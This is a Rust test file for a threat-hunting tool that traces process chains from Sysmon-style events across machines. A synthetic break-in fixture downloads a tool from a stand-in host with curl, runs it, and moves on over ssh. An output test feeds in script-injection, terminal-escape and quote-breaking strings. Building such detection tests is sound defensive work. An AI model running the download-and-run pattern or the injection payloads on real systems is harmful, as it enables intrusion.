//! A story goes from the entry to what came of it, by exact identities, across machines.

mod engines;
mod events;

use events::{event, guid, store};
use expect_test::expect;
use tuxmon_hunt::Store;
use tuxmon_hunt::story::{Role, Story, Subject, dot, html, json, story, story_remotely, tree};

fn start(host: &str, record: u64, process: u64, parent: u64, image: &str, command: &str) -> String {
    event(
        host,
        record,
        record as i64 * 1000,
        1,
        &[
            ("ProcessGuid", &guid(process)),
            ("ProcessId", &process.to_string()),
            ("Image", image),
            ("CommandLine", command),
            ("User", "ada"),
            ("Hashes", &format!("SHA256={process:064x}")),
            ("ParentProcessGuid", &guid(parent)),
            ("ParentProcessId", &parent.to_string()),
            ("ParentImage", "/usr/bin/parent"),
        ],
    )
}

fn connection(host: &str, record: u64, process: u64, initiated: bool, from: &str, to: &str) -> String {
    event(
        host,
        record,
        record as i64 * 1000,
        3,
        &[
            ("ProcessGuid", &guid(process)),
            ("ProcessId", &process.to_string()),
            ("Image", "/usr/sbin/sshd"),
            ("Protocol", "tcp"),
            ("Initiated", if initiated { "true" } else { "false" }),
            ("SourceIp", from),
            ("SourcePort", "40001"),
            ("DestinationIp", to),
            ("DestinationPort", "22"),
        ],
    )
}

/// Ada comes in over ssh, writes a tool, runs it, and it goes on to the next machine. Beside it others work.
fn break_in() -> String {
    [
        start("a", 1, 10, 1, "/usr/sbin/sshd", "sshd: ada"),
        connection("a", 2, 10, false, "198.51.100.7", "10.0.0.1"),
        start("a", 3, 11, 10, "/usr/bin/bash", "-bash"),
        start("a", 4, 12, 11, "/usr/bin/curl", "curl -o /tmp/tool http://198.51.100.7/tool"),
        event(
            "a",
            5,
            5000,
            11,
            &[("ProcessGuid", &guid(12)), ("Image", "/usr/bin/curl"), ("TargetFilename", "/tmp/tool")],
        ),
        start("a", 6, 13, 11, "/tmp/tool", "/tmp/tool --go"),
        connection("a", 7, 13, true, "10.0.0.1", "10.0.0.2"),
        start("b", 1, 20, 2, "/usr/sbin/sshd", "sshd: root"),
        connection("b", 8, 20, false, "10.0.0.1", "10.0.0.2"),
        // The same ports, between others.
        start("c", 1, 30, 3, "/usr/sbin/sshd", "sshd: eve"),
        connection("c", 8, 30, false, "10.0.0.1", "10.0.0.3"),
        start("a", 9, 40, 1, "/usr/bin/make", "make all"),
    ]
    .concat()
}

fn told(store: &Store, subject: &str) -> Story {
    story(store, &subject.parse().expect("it is a subject")).expect("it is told")
}

#[test]
fn a_server_tells_the_same() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let circle = start("a", 21, 61, 62, "/usr/bin/x", "x") + &start("a", 22, 62, 61, "/usr/bin/y", "y");
    let log = break_in() + &circle;
    let file = store(folder.path(), &[&log]);
    for engine in engines::everywhere() {
        let server = engine.store();
        engine.send(&server, folder.path(), &log);
        let hash = format!("{:064x}", 13);
        for subject in [
            guid(10).as_str(),
            &guid(61),
            "11@a",
            "13@a",
            "13@b",
            "/tmp/tool",
            "/tmp/none",
            &hash,
            "10.0.0.2",
            "198.51.100.7",
            "192.0.2.9",
        ] {
            let subject: Subject = subject.parse().expect("it is a subject");
            let here = story(&file, &subject).expect("it is told");
            let there =
                story_remotely(&server, &subject).unwrap_or_else(|error| panic!("{subject:?}: {error}"));
            assert_eq!(tree(&there), tree(&here), "{subject:?} of {}", engine.name);
            assert_eq!(json(&there), json(&here), "{subject:?} of {}", engine.name);
        }
    }
}

#[test]
fn a_break_in_is_told_from_end_to_end() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let store = store(folder.path(), &[&break_in()]);
    expect![[r#"
        (before it was watched)  /usr/bin/parent  [/usr/bin/parent 1@a]
          2026-11-21 00:00:01.000  sshd: ada  [/usr/sbin/sshd 10@a ada]  ◀ ssh session from 198.51.100.7
            ▶ 2026-11-21 00:00:03.000  -bash  [/usr/bin/bash 11@a ada]
              2026-11-21 00:00:04.000  curl -o /tmp/tool http://198.51.100.7/tool  [/usr/bin/curl 12@a ada]
                  2026-11-21 00:00:05.000  FileCreate /tmp/tool
                    → 2026-11-21 00:00:06.000  /tmp/tool --go  [/tmp/tool 13@a ada]
              2026-11-21 00:00:06.000  /tmp/tool --go  [/tmp/tool 13@a ada]
                  2026-11-21 00:00:07.000  NetworkConnect to 10.0.0.2 port 22
                    → 2026-11-21 00:00:01.000  sshd: root  [/usr/sbin/sshd 20@b ada]
    "#]]
    .assert_eq(&tree(&told(&store, "11@a")));
}

#[test]
fn every_subject_leads_to_its_processes() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let store = store(folder.path(), &[&break_in()]);
    let subjects = |text: &str| -> Vec<i64> {
        let told = told(&store, text);
        told.processes.iter().filter(|it| it.role == Role::Subject).filter_map(|it| it.pid).collect()
    };
    assert_eq!(subjects(&guid(13)), [13]);
    assert_eq!(subjects("13@a"), [13]);
    assert_eq!(subjects("/tmp/tool"), [13, 12], "who ran it, and who wrote it");
    assert_eq!(subjects(&format!("{:064x}", 13)), [13]);
    assert_eq!(subjects("10.0.0.2"), [13]);
    assert_eq!(subjects("198.51.100.7"), [10]);
    for nobody in
        [guid(99), "13@b".to_owned(), "/tmp/none".to_owned(), "192.0.2.9".to_owned(), "00".repeat(32)]
    {
        assert!(told(&store, &nobody).processes.is_empty(), "{nobody}");
    }
    assert!("tool".parse::<Subject>().is_err());
    assert!("abcd".parse::<Subject>().is_err());
}

/// Numbers of processes come again, and of some processes nobody saw the beginning.
#[test]
fn a_number_on_a_machine_is_its_last_process() {
    let begins = |host: &str, record: u64, process: u64, pid: u64| {
        start(host, record, process, 1, "/usr/bin/program", "program")
            .replace(&format!("\"ProcessId\">{process}<"), &format!("\"ProcessId\">{pid}<"))
    };
    // Far apart: each in a piece of the record numbers of its own.
    let mut log: String = (0..10).map(|round| begins("a", round * 40_000, 100 + round, 77)).collect();
    log += &begins("b", 1, 300, 77);
    log += &begins("a", 400_001, 301, 78);
    let folder = tempfile::tempdir().expect("a temporary directory");
    let store = store(folder.path(), &[&log]);
    let subject = |text: &str| -> Vec<String> {
        let told = told(&store, text);
        told.processes.iter().filter(|it| it.role == Role::Subject).map(|it| it.guid.clone()).collect()
    };
    assert_eq!(subject("77@a"), [guid(109)]);
    assert_eq!(subject("77@b"), [guid(300)]);
    assert_eq!(subject("78@a"), [guid(301)]);
    assert_eq!(subject("1@a"), [guid(1)], "the parent, of which only its children tell");
    for nobody in ["78@b", "79@a", "77@c"] {
        assert!(subject(nobody).is_empty(), "{nobody}");
    }
}

#[test]
fn forms_say_the_same_and_are_safe() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let nasty = start("a", 20, 50, 11, "/tmp/x\"];\\<b>", "<script>alert(1)</script> \u{1b}[2J");
    let store = store(folder.path(), &[&break_in(), &nasty]);
    let story = told(&store, &guid(10));
    let value = json(&story);
    assert_eq!(value["processes"].as_array().map(Vec::len), Some(story.processes.len()));
    assert_eq!(value["processes"][1]["entry"], "ssh session from 198.51.100.7");
    let page = html(&story);
    assert!(!page.contains("<script>") && page.contains("&lt;script&gt;"), "{page}");
    assert_eq!(page.matches("<li").count(), page.matches("</li>").count());
    assert_eq!(page.matches("<ul>").count(), page.matches("</ul>").count());
    assert_eq!(page.matches("<details").count(), page.matches("</details>").count());
    assert_eq!(page.matches("<div").count(), page.matches("</div>").count());
    for place in 0..story.processes.len() {
        assert_eq!(page.matches(&format!("<li id=\"p{place}\"")).count(), 1, "{page}");
    }
    assert!(page.contains("Where it went on") && page.contains("◀ ssh session from 198.51.100.7"), "{page}");
    let graph = dot(&story);
    assert!(graph.contains(r#"x\"];\\<b>"#), "{graph}");
    for text in [tree(&story), page, graph] {
        assert!(!text.contains('\u{1b}'), "{text}");
    }
}

/// The text is a tree, and may be asked for by either word.
#[test]
fn the_program_tells_a_tree_as_text() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    drop(store(folder.path(), &[&break_in()]));
    let told = |form: &str| {
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_tuxmon-hunt"))
            .arg("--store")
            .arg(folder.path().join("store"))
            .args(["story", "11@a", "--format", form])
            .output()
            .expect("the program is there");
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).expect("text is UTF-8")
    };
    assert!(told("tree").contains("curl -o /tmp/tool"));
    assert_eq!(told("text"), told("tree"));
}

#[test]
fn a_circle_of_parents_ends() {
    let folder = tempfile::tempdir().expect("a temporary directory");
    let circle = [start("a", 1, 1, 2, "/a", "a"), start("a", 2, 2, 1, "/b", "b")].concat();
    let store = store(folder.path(), &[&circle]);
    assert_eq!(told(&store, &guid(1)).processes.len(), 2);
}
